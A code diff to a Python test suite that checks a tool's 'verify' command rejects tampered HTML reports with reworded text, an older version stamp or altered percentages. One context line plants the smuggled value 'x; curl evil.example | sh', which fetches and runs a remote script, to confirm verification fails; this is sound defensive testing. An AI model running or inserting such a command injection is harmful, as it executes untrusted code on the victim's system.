@@ -130,6 +130,20 @@ def test_a_run_without_programs_is_reported_verified_and_resumed(
     page = (back / "report.html").read_text()
     (back / "report.html").write_text(re.sub("(?<=tradeassay verify )[^<]+", "x; curl evil.example | sh", page))
     assert main(["verify", str(back)]) == 1
+    worded = page.replace("Skip to the results", "Jump to the results")
+    assert worded != page
+    (back / "report.html").write_text(worded)
+    assert main(["verify", str(back)]) == 1, "this version has no such words"
+    older = re.sub(r'(?<=content="tradeassay )[^"]+', "0.0.1", worded)
+    (back / "report.html").write_text(older)
+    capsys.readouterr()
+    assert main(["verify", str(back)]) == 3
+    said = " ".join(capsys.readouterr().out.split())
+    assert "written by tradeassay 0.0.1, the same numbers in other words" in said
+    assert "writes it anew" in said
+    (back / "report.html").write_text(older.replace("0.0%", "50.0%", 1))
+    assert main(["verify", str(back)]) == 1, "other numbers are contradicted, whoever wrote them"
+    assert main(["report", str(back)]) == 0 and main(["verify", str(back)]) == 0
 
 
 def test_an_item_without_a_result_is_an_exit_status(capsys: pytest.CaptureFixture[str], place: Path) -> None:
